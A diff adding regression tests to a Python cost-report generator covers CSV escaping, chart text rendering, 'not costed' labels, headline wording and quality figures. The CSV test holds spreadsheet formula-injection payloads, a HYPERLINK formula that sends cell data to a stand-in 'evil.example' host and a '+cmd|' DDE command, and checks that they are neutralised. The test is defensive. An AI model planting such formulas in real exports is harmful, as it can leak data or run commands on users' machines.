@@ -14,13 +14,21 @@ Cases (a two-day hand-made timeline of the reference policy's `edge` workload, p
   focus is an error for people;
 - PlanStats counts changes, guard ticks, guard interventions and trusted ticks of a plan list;
 - RecordingPlanner records plans and the forecast held at each tick, averaged onto a timeline;
-- compute savings are called potential unless realised, in the sentence and the HTML.
+- compute savings are called potential unless realised, in the sentence and the HTML;
+- finance sweep: CSV text cells a spreadsheet would run as formulas get a leading `'` (F1); chart
+  text with `$...$` is drawn as written and a failed render leaves DIR as it was (F2); components
+  not costed read "not costed", not 0.00 (F3); the replay's own quality figures are used when they
+  cover the report, else the timeline's are said to be averages (F4); the caps caption states the
+  policy's floors (F7); the headline says "potential" for compute savings (F8); the cumulative
+  chart ends at the totals inside a day (F9); event names as written (F10); the replay's guard
+  text does not contradict itself (F11).
 """
 
 from __future__ import annotations
 
 import base64
 import csv
+import math
 from collections import defaultdict
 from datetime import datetime, timedelta, timezone
 from decimal import ROUND_HALF_UP, Decimal
@@ -142,7 +150,7 @@ def test_headline_states_ebb_costs_and_savings(policy):
     static = report.windowed["static"].by_period()[ebb.name].total
     hpa = report.windowed["hpa"].by_period()[ebb.name].total
     assert h.ran == ran and h.saved["static"] == static - ran and h.saved["hpa"] == hpa - ran
-    assert h.text.startswith(f"The Singles Day ebb (Nov 12 to Nov 13, 2026, the part in the report) "
+    assert h.text.startswith(f"The singles-day ebb (Nov 12 to Nov 13, 2026, the part in the report) "
                              f"cost {format_money(ran, 'USD')}")
     assert f"keeping peak capacity would have cost {format_money(static, 'USD')}" in h.text
     assert f"plain autoscaling {format_money(hpa, 'USD')}" in h.text
@@ -211,7 +219,7 @@ class _Parsed(HTMLParser):
         if tag in ("script", "link", "iframe"):
             self.external.append(tag)
         if "data-strategy" in a:
-            self.cells[(a["data-strategy"], a["data-component"])] = a["data-value"]
+            self.cells[(a["data-strategy"], a["data-component"])] = a.get("data-value")
         self._stack.append((tag, a))
 
     def handle_endtag(self, tag):
@@ -416,3 +424,179 @@ def test_a_report_without_event_windows_removes_an_earlier_costs_by_event_csv(po
     files = write_report(build_report(make_input(policy)), tmp_path)  # no event: no windows
     assert files.events_csv is None and not (tmp_path / "costs_by_event.csv").exists()
     assert "costs_by_event.csv" not in files.html.read_text(encoding="utf-8")
+
+
+# --------------------------------------------------------------------------- finance report sweep
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(policy, tmp_path):
+    """F1: an event name went raw into costs_by_event.csv's `window` column, where Excel,
+    LibreOffice and Google Sheets read `=HYPERLINK(...)` as a formula. Text cells starting with
+    = + - @ TAB CR now get a leading apostrophe (OWASP); numbers (-5.00) are left as numbers."""
+    from scaler.costing import csv_text
+
+    evil = Event.model_construct(name='=HYPERLINK("evil.example/x?"&A1,"Click")', kind="sale", start=SALE.start,
+                                 peak=SALE.peak, end=SALE.end, recurrence=None, ebb=None, lift=None)
+    files = write_report(build_report(make_input(policy, events=[evil])), tmp_path)
+    with open(files.events_csv, newline="", encoding="utf-8") as f:
+        windows = {r["window"] for r in csv.DictReader(f)}
+    assert windows == {"'" + evil.name + " event", "'" + evil.name + " ebb"}
+    row = {k: "" for k in CSV_COLUMNS}
+    for text in ("-2+3", "+cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"):
+        out = list(csv.DictReader(csv_text([{**row, "window": text}])[0].splitlines(keepends=True)))
+        assert out[0]["window"] == "'" + text
+    negative = csv_text([{**row, "total_cost": Decimal("-5.00"), "window": "sale ebb"}])[0]
+    assert ",-5.00," in negative and ",sale ebb," in negative
+
+
+def test_chart_text_is_drawn_literally_and_a_failed_render_writes_nothing(policy, tmp_path, monkeypatch):
+    """F2: a rung named `HD $\\notacommand$` crashed matplotlib's mathtext (a traceback, exit 1)
+    after costs.csv had been rewritten next to the earlier report.html. Chart text is now drawn
+    as written, and a report that cannot be rendered leaves DIR's earlier files untouched."""
+    ladder = [policy.bitrate.ladder[0].model_copy(update={"name": "HD $\\notacommand$"}), *policy.bitrate.ladder[1:]]
+    odd = policy.bitrate.model_copy(update={"ladder": ladder})
+    base = make_input(policy)
+    render_html(build_report(ReportInput(**{**base.__dict__, "bitrate": odd})))  # no ValueError
+
+    write_report(build_report(make_input(policy, events=[SALE])), tmp_path)
+    before = {p.name: p.read_bytes() for p in tmp_path.iterdir()}
+    import scaler.reporting.charts as charts
+
+    def broken(report):
+        raise ValueError("Unknown symbol: \\notacommand")
+
+    monkeypatch.setattr(charts, "caps_chart", broken)
+    with pytest.raises(EbbtideError, match=r"report: cannot draw the report's charts: ValueError: Unknown symbol"):
+        write_report(build_report(make_input(policy, pods={"ebbtide": 1.0, "hpa": 3.0})), tmp_path)
+    assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before  # no new CSV beside the old HTML
+
+
+def test_components_not_costed_read_not_costed_not_zero(policy):
+    """F3: without a bitrate section (or --transcoded-streams) egress and transcoding showed as
+    0.00 in every table and 'saved $0.00 on CDN egress and transcoding' in the sentence."""
+    base = make_input(policy)
+    r = build_report(ReportInput(**{**base.__dict__, "bitrate": None, "tier_viewers": None, "caps_kbps": None}))
+    assert set(r.not_costed) == {"egress", "transcoding"}
+    html = render_html(r, charts=[])
+    parsed = _Parsed()
+    parsed.feed(html)
+    assert parsed.cells[("ebbtide", "egress")] is None and parsed.cells[("ebbtide", "transcoding")] is None
+    assert "$0.00" not in parsed.text("totals")
+    assert parsed.text("totals").count("not costed") == 6
+    assert "Not costed: CDN egress (the policy has no `bitrate` section)" in parsed.text("not-costed")
+    sentence = savings_sentence(r.savings_daily["static"], not_costed=r.not_costed)
+    assert "on CDN egress" not in sentence and "CDN egress and transcoding not costed." in sentence
+    assert sentence in parsed.text("savings-words")
+    assert "CDN egress and transcoding savings are real money" not in html
+    assert r.headline.text.endswith("CDN egress and transcoding not costed.")
+    streams = build_report(make_input(policy))  # a ladder but no transcoded streams: transcoding only
+    assert list(streams.not_costed) == ["transcoding"]
+    assert "it saved" in savings_sentence(streams.savings_daily["static"], not_costed=streams.not_costed)
+    assert "on CDN egress (real money" in savings_sentence(streams.savings_daily["static"],
+                                                           not_costed=streams.not_costed)
+
+
+def test_quality_uses_the_replays_own_figures_when_they_cover_the_report(policy):
+    """F4: from an hourly timeline the report said 0 minutes unserved where the replay, at every
+    tick, had measured 152. The replay's figures are used when they cover the report's range; from
+    a timeline alone the page says they are interval averages (at least)."""
+    from scaler.reporting import QualityFigures
+
+    base = make_input(policy)
+    replay = {"ebbtide": QualityFigures(math.nan, 21, 0.000123, 31.5),
+              "hpa": QualityFigures(math.nan, 19, 0.000674, 152), "static": QualityFigures(math.nan, 18, 0.000421, 100)}
+    span = (T0, T0 + timedelta(hours=HOURS))
+    r = build_report(ReportInput(**{**base.__dict__, "measured_quality": replay, "measured_span": span}))
+    assert r.quality_measured
+    assert (r.quality["hpa"].peak_pods, r.quality["hpa"].unserved_minutes) == (19, 152)
+    assert r.quality["hpa"].pod_hours == pytest.approx(3 * 48)  # the timeline's, as the costs
+    parsed = _Parsed()
+    parsed.feed(render_html(r, charts=[]))
+    assert "the replay's own, measured at every decision" in parsed.text("quality-note")
+    other = build_report(ReportInput(**{**base.__dict__, "measured_quality": replay,
+                                        "measured_span": (T0, T0 + timedelta(days=5))}))
+    assert not other.quality_measured and other.quality["hpa"].unserved_minutes == pytest.approx(60)
+    parsed = _Parsed()
+    parsed.feed(render_html(other, charts=[]))
+    assert "highest 60-minute average of servers" in parsed.text("quality")
+    assert "can be lower than what viewers met" in parsed.text("quality-note")
+
+
+def test_caps_caption_states_the_policys_floors(policy):
+    """F7: the caption said 'core viewers always keep HD' whatever the policy's floors were."""
+    from scaler.reporting.charts import caps_chart
+
+    tiers = [t.model_copy(update={"hd_floor": policy.bitrate.ladder[-1].name}) for t in policy.bitrate.tiers]
+    low = policy.bitrate.model_copy(update={"tiers": tiers})
+    caption = caps_chart(build_report(ReportInput(**{**make_input(policy).__dict__, "bitrate": low}))).caption
+    assert "always keep HD" not in caption and "always keep" not in caption
+    assert f"core viewers never go below {policy.bitrate.ladder[-1].name}" in caption
+    top = [t.model_copy(update={"hd_floor": policy.bitrate.ladder[0].name}) if t.name == "core" else t
+           for t in policy.bitrate.tiers]
+    kept = policy.bitrate.model_copy(update={"tiers": top})
+    caption = caps_chart(build_report(ReportInput(**{**make_input(policy).__dict__, "bitrate": kept}))).caption
+    assert f"core viewers always keep {policy.bitrate.ladder[0].name}" in caption
+
+
+def test_headline_says_potential_when_the_saving_is_compute(policy):
+    """F8: 'saved $223.82 (69.3%) against peak capacity' was all unrealised compute saving."""
+    base = make_input(policy, events=[SALE])
+    compute_only = build_report(ReportInput(**{**base.__dict__, "bitrate": None, "tier_viewers": None,
+                                               "caps_kbps": None}))
+    saved = compute_only.headline.saved["static"]
+    pct = compute_only.headline.saved_pct["static"]
+    assert (f"saved a potential {format_money(saved, 'USD')} ({pct:.1f}%) against peak capacity (all compute)"
+            in compute_only.headline.text)
+    assert "Compute savings are potential" in compute_only.headline.text
+    realised = build_report(ReportInput(**{**compute_only.input.__dict__, "compute_realised": True}))
+    assert "potential" not in realised.headline.text
+    mixed = build_report(base)  # egress and compute both saved
+    compute = (mixed.windowed["static"].by_period()[mixed.headline.window.name].compute
+               - mixed.windowed["ebbtide"].by_period()[mixed.headline.window.name].compute)
+    assert f"(of which {format_money(compute, 'USD')} potential, on compute)" in mixed.headline.text
+
+
+def test_event_names_are_shown_as_written(policy):
+    """F10: `STS-70 launch` was shown as `Sts 70 launch`, unlike the CSV."""
+    launch = SALE.model_copy(update={"name": "STS-70 launch"})
+    r = build_report(make_input(policy, events=[launch]))
+    assert r.headline.text.startswith("The STS-70 launch ebb (")
+    parsed = _Parsed()
+    parsed.feed(render_html(r, charts=[]))
+    assert "STS-70 launch: the ebb after it" in parsed.text("events") and "Sts" not in parsed.text("events")
+
+
+def test_replay_guard_text_does_not_say_the_guard_cannot_fire(policy):
+    """F11: 'the guard was active in 3 decisions ... so the guard cannot fire' contradicted itself."""
+    inp = make_input(policy)
+    r = build_report(ReportInput(**{**inp.__dict__, "plan_stats": PlanStats(10, 2, 3, 1, 10)}))
+    parsed = _Parsed()
+    parsed.feed(render_html(r, charts=[]))
+    assert "cannot fire" not in parsed.text("plans")
+    assert "only on missing or stale data or a collapse of demand" in parsed.text("plans")
+
+
+def test_cumulative_cost_chart_ends_at_the_totals_inside_a_day(policy):
+    """F9: each day's cost was stepped in at the day's end, beyond a report ending inside it: the
+    lines of a 2-hour report stayed at 0."""
+    import matplotlib
+    from matplotlib.figure import Figure
+
+    drawn = []
+    real = Figure.savefig
+
+    def keep(fig, *a, **k):
+        drawn.append([line for ax in fig.axes for line in ax.get_lines()])
+        return real(fig, *a, **k)
+
+    base = make_input(policy)
+    r = build_report(ReportInput(**{**base.__dict__, "start": T0 + timedelta(hours=13),
+                                    "end": T0 + timedelta(hours=15)}))
+    from scaler.reporting import charts
+
+    with pytest.MonkeyPatch.context() as mp:
+        mp.setattr(Figure, "savefig", keep)
+        with matplotlib.rc_context(charts.RC):
+            charts.cost_chart(r)
+    ends = {line.get_label(): line.get_ydata()[-1] for line in drawn[0]}
+    assert ends["Ebbtide"] == pytest.approx(float(r.totals()["ebbtide"].total))
+    xs = {pd.Timestamp(line.get_xdata()[-1]) for line in drawn[0] if line.get_label() == "Ebbtide"}
+    assert xs == {pd.Timestamp(r.end).tz_convert("UTC").tz_localize(None)}
